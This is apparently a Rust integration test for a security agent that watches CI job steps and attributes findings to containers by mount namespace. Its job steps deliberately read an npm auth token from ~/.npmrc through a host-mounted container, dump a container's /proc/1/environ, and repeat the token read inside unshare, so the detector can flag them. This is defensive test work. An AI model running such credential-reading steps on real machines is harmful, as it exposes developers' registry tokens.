/// Hosts with cgroup v1 only put every process in the unified hierarchy's root: the cgroup id
/// in every record is the same, and containers are told apart by the mount namespace each
/// runtime makes for them (`--container-identity auto` chooses it there). Forced here, where
/// the cgroup ids would have told them apart too: the events show the namespace keys.
#[test]
fn with_containers_told_by_mount_namespace_a_steps_containers_are_still_its() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let d = daemon();
    let image = d.busybox_image();
    let agent = Agent::start_with(&[
        "--docker-socket",
        &d.socket.display().to_string(),
        "--container-identity",
        "mount-namespace",
    ]);
    let runner = runner();
    let tag = &runner.run_id;
    let host = d.host();
    let hostbox = format!("nshost-{tag}");
    d.docker_ok(&["run", "-d", "--name", &hostbox, image, "sleep", "600"]);
    let steal = format!(
        "set -e\nexport DOCKER_HOST={host}\n\
         docker run --rm --name nssteal-{tag} -v \"$HOME:/h\" {image} cat /h/.npmrc\n"
    );
    let own = format!(
        "set -e\nexport DOCKER_HOST={host}\n\
         docker run --rm --name nsown-{tag} {image} cat /data/own.txt\n"
    );
    let peek = format!(
        "set -e\nexport DOCKER_HOST={host}\n\
         docker exec {hostbox} cat /proc/1/environ | tr '\\0' '\\n' | grep '^PATH='\n"
    );
    // A namespace the step makes for itself is no container: the read is the step's own.
    let private = "set -e\nunshare -m sh -c 'cat \"$HOME/.npmrc\" | sed s/^/private:/'\n";
    let output = runner.run_job(&[
        ("own", &own),
        ("steal", &steal),
        ("peek", &peek),
        ("private", private),
        MARKER_STEP,
    ]);
    d.docker_ok(&["rm", "-f", &hostbox]);
    assert!(output.contains("the container's own file"), "{output}");
    assert!(output.contains(TOKEN), "the token was not read: {output}");
    assert!(
        output.contains(&format!("private://registry.npmjs.org/:_authToken={TOKEN}")),
        "{output}"
    );
    assert!(output.contains("PATH=/usr/local/sbin"), "{output}");
    let mine = agent.findings_through_marker(&runner);
    let steal_name = format!("nssteal-{tag}");
    assert!(
        by_rule(&mine, "credential-read")
            .iter()
            .any(|f| f["step"]["id"] == "steal"
                && names_container(f, &steal_name)
                && f["evidence"]["opened_as"] == "/h/.npmrc"),
        "the token read in the container, named: {mine:#?}"
    );
    assert!(
        by_rule(&mine, "container-escape-risk")
            .iter()
            .any(|f| f["step"]["id"] == "steal" && names_container(f, &steal_name)),
        "{mine:#?}"
    );
    assert!(
        mine.iter().any(|f| f["step"]["id"] == "peek"
            && f["rule"] == "process-environ-read"
            && names_container(f, &hostbox)),
        "a docker exec into the host's container is the step's that asked: {mine:#?}"
    );
    assert!(
        by_rule(&mine, "credential-read")
            .iter()
            .any(|f| f["step"]["id"] == "private"
                && f["container"].is_null()
                && f["evidence"]["path"] == format!("{}/.npmrc", runner.home.display())),
        "the step's own namespace is the step's, in no container: {mine:#?}"
    );
    assert!(
        !mine.iter().any(|f| f["step"]["id"] == "own"),
        "a container reading its own file: {mine:#?}"
    );
    // Told by namespace: the container's records are keyed by it, not by their cgroup.
    let keyed = agent.events().iter().any(|e| {
        e["process"]["container"].as_str().is_some_and(is_hex64)
            && e["process"]["cgroup_id"]
                .as_u64()
                .is_some_and(|c| c & (1 << 62) != 0)
            && e["process"]["mnt_ns"].as_u64().is_some_and(|n| n != 0)
    });
    assert!(keyed, "no container record keyed by its mount namespace");
}

fn is_hex64(id: &str) -> bool {
    id.len() == 64 && id.bytes().all(|b| b.is_ascii_hexdigit())
}
